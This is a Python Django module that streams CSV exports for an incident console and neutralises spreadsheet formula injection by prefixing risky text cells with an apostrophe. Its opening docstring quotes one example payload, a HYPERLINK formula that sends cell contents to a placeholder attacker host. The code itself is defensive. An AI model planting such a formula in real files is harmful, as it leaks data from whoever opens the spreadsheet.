"""The one way the console writes CSV: streamed, and safe to open in a spreadsheet.

Every export (incidents, timeline, checklist runs, later reviews) goes through
`csv_response`, so formula-injection neutralisation lives here and nowhere else.
Alert titles, notes and service names come from outside (Alertmanager, people);
a cell such as `=HYPERLINK("http://evil/?"&A1)` would run as a formula when an
operator opens the file in Excel or LibreOffice. As OWASP recommends, a text cell
starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
which spreadsheets treat as "this is text" and do not display.
"""

import csv
import datetime
import json
from collections.abc import Iterable
from typing import Any

from django.http import StreamingHttpResponse

# OWASP "CSV Injection": the characters that make a spreadsheet evaluate a cell.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "text/csv; charset=utf-8"


def neutralise(value: Any) -> Any:
    """Prefix a text cell that a spreadsheet would read as a formula with `'`.

    Numbers and booleans pass through: they are ours, not user text, and a
    negative number must stay a number. Dates become ISO 8601, None an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    if isinstance(value, datetime.datetime | datetime.date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def json_cell(value: Any) -> str:
    """A structured value (a JSONField) as JSON text, never Python's repr."""
    return json.dumps(value, ensure_ascii=False, sort_keys=True, default=str)


class _Echo:
    """A file-like object whose write() hands the line back, so csv.writer can
    feed a generator instead of building the whole file in memory."""

    def write(self, value: str) -> str:
        return value


def csv_response(header: Iterable[str], rows: Iterable[Iterable[Any]], filename: str) -> StreamingHttpResponse:
    """Stream `header` then `rows` as a CSV download called `filename`.

    `rows` should be lazy (a generator over `.iterator()`), so an export of
    100,000 rows holds one chunk in memory, not the file. Every cell is
    neutralised; the header is ours and written as is.
    """
    writer = csv.writer(_Echo())

    def lines():
        yield writer.writerow(list(header))
        for row in rows:
            yield writer.writerow([neutralise(cell) for cell in row])

    response = StreamingHttpResponse(lines(), content_type=CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
